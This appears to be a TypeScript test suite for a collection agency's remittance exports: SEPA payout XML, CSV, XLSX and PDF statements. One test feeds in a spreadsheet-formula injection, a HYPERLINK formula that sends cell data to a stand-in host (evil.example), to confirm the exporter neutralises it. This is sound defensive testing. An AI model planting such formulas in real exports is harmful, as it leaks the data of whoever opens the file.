import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { PDFDocument } from 'pdf-lib';
import { validateXML } from 'xmllint-wasm';
import { payoutFile, sepaText, statementCsv, statementXlsx } from './remittance-files';
import type { StatementLine } from './remittance';
import { statementPdf } from './remittance-pdf';

const XSD = fs.readFileSync(path.join(__dirname, 'xsd', 'pain.001.001.09-sct.xsd'), 'utf8');
const check = async (xml: string) => {
  const result = await validateXML({ xml: [{ fileName: 'payout.xml', contents: xml }], schema: [XSD] });
  return result.errors.map((e) => e.message);
};
const agency = { name: 'Amicus Incasso BV', iban: 'BE71096123456769', bic: 'GKCCBEBB' };
const file = (payouts: Parameters<typeof payoutFile>[0]['payouts'], bic: string | null = agency.bic) =>
  payoutFile({
    messageId: 'AMICUS-2026-03',
    createdAt: new Date('2026-04-01T08:00:00.123Z'),
    executionDate: '2026-04-02',
    debtor: { ...agency, bic },
    payouts,
  });

describe('the payout file (pain.001.001.09)', () => {
  it('is valid against the schema, with its control sum to the cent', async () => {
    const xml = file([
      {
        endToEndId: '0196a4c2-7d1e-7a55-9e51-9a2c7e1f0b11',
        creditor: { name: 'Brouwerij Ça Va', iban: 'BE68539007547034' },
        amountMinor: 113518n,
        text: 'Amicus remittance 2026-03',
      },
      {
        endToEndId: 'r2',
        creditor: { name: 'Bakkerij & Zonen', iban: 'NL91ABNA0417164300' },
        amountMinor: 1n,
        text: 'Amicus remittance 2026-03',
      },
    ]);
    expect(await check(xml)).toEqual([]);
    expect(xml).toContain('<CtrlSum>1135.19</CtrlSum>');
    expect(xml).toContain('<Nm>Brouwerij Ca Va</Nm>');
    expect(xml).toContain('<EndToEndId>0196a4c27d1e7a559e519a2c7e1f0b11</EndToEndId>');
    expect(
      await check(file([{ endToEndId: 'r3', creditor: { name: 'X', iban: 'BE68539007547034' }, amountMinor: 500n, text: 't' }], null)),
    ).toEqual([]);
  });

  it('is refused by the schema when an amount is nil or the IBAN is not one', async () => {
    const nil = await check(file([{ endToEndId: 'r1', creditor: { name: 'X', iban: 'BE68539007547034' }, amountMinor: 0n, text: 't' }]));
    expect(nil.join('\n')).toMatch(/InstdAmt/);
    const iban = await check(file([{ endToEndId: 'r1', creditor: { name: 'X', iban: 'be68 5390' }, amountMinor: 5n, text: 't' }]));
    expect(iban.join('\n')).toMatch(/IBAN/);
  });

  it('keeps any name or text to the SEPA character set and length', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.integer({ min: 1, max: 140 }), (text, max) => {
        const out = sepaText(text, max);
        expect(out.length).toBeLessThanOrEqual(max);
        expect(out).toMatch(/^[A-Za-z0-9/\-?:().,'+ ]+$/);
      }),
    );
  });
});

describe('the statement files', () => {
  const line = (caseId: string | null, n: bigint): StatementLine => ({
    caseId,
    collectedMinor: 10000n * n,
    commissionMinor: 1500n * n,
    feesMinor: 150n,
    costsKeptMinor: 0n,
    vatMinor: 347n,
    refundsMinor: 0n,
    netMinor: 10000n * n - 1500n * n - 150n - 347n,
  });
  const lines = [line('k1', 1n), line('k2', 3n)];
  const total = { ...line(null, 4n), feesMinor: 300n, vatMinor: 694n, netMinor: 40000n - 6000n - 300n - 694n };

  it('CSV: one line per case and the total', () => {
    expect(statementCsv(lines, total, 'EUR').split('\r\n')).toEqual([
      'case,collected,commission,fees,costs_kept,vat,refunds,net',
      'k1,100.00,15.00,1.50,0.00,3.47,0.00,80.03',
      'k2,300.00,45.00,1.50,0.00,3.47,0.00,250.03',
      'total,400.00,60.00,3.00,0.00,6.94,0.00,330.06',
      '',
    ]);
  });

  it('XLSX: the same figures as numbers', async () => {
    const book = new ExcelJS.Workbook();
    const bytes = await statementXlsx('Statement 2026-03', lines, total, 'EUR');
    await book.xlsx.load(new Uint8Array(bytes).buffer);
    const rows = book.getWorksheet('Statement')!.getSheetValues().slice(1);
    expect((rows[3] as unknown[]).slice(1)).toEqual(['k2', 300, 45, 1.5, 0, 3.47, 0, 250.03]);
  });

  it('CSV and XLSX: a label that a spreadsheet would run as a formula is written as text; negative amounts stay numbers', async () => {
    const hostile = { ...line('=HYPERLINK("http://evil.example/?"&A1)', 1n), refundsMinor: 9000n, netMinor: -1200n };
    const csv = statementCsv([hostile], total, 'EUR').split('\r\n');
    expect(csv[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1)",100.00,15.00,1.50,0.00,3.47,90.00,-12.00`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(await statementXlsx('@SUM(A1:A9)', [hostile], total, 'EUR')).buffer);
    const rows = book.getWorksheet('Statement')!.getSheetValues().slice(1);
    expect((rows[0] as unknown[])[1]).toBe("'@SUM(A1:A9)");
    expect((rows[2] as unknown[]).slice(1)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1)', 100, 15, 1.5, 0, 3.47, 90, -12]);
  });
});

describe('the statement PDF', () => {
  const line = (i: number): StatementLine => ({
    caseId: `0196a4c2-7d1e-7a55-9e51-${String(i).padStart(12, '0')}`,
    collectedMinor: 10000n,
    commissionMinor: 1500n,
    feesMinor: 0n,
    costsKeptMinor: 0n,
    vatMinor: 315n,
    refundsMinor: 0n,
    netMinor: 8185n,
  });
  const input = (n: number) => {
    const lines = Array.from({ length: n }, (_, i) => line(i));
    return {
      agency: { name: 'Amicus Incasso', colour: '#1f4e79' },
      client: { name: 'Brouwerij Ça Va — ☕' },
      period: { start: '2026-03-01', end: '2026-03-31' },
      currency: 'EUR',
      lines,
      total: { ...line(0), caseId: null, collectedMinor: 10000n * BigInt(n), netMinor: 8185n * BigInt(n) },
      outcome: 'payout' as const,
      payoutMinor: 8185n * BigInt(n),
      invoicedMinor: 0n,
      payoutIban: 'BE68539007547034',
      issuedOn: '2026-04-01',
    };
  };

  it('is a PDF in pages as the lines need, whatever the client’s name holds', async () => {
    const one = await PDFDocument.load(await statementPdf(input(3)));
    expect(one.getPageCount()).toBe(1);
    expect(one.getTitle()).toBe('Remittance 2026-03-01 – 2026-03-31');
    const many = await PDFDocument.load(await statementPdf(input(60)));
    expect(many.getPageCount()).toBe(2);
  });
});
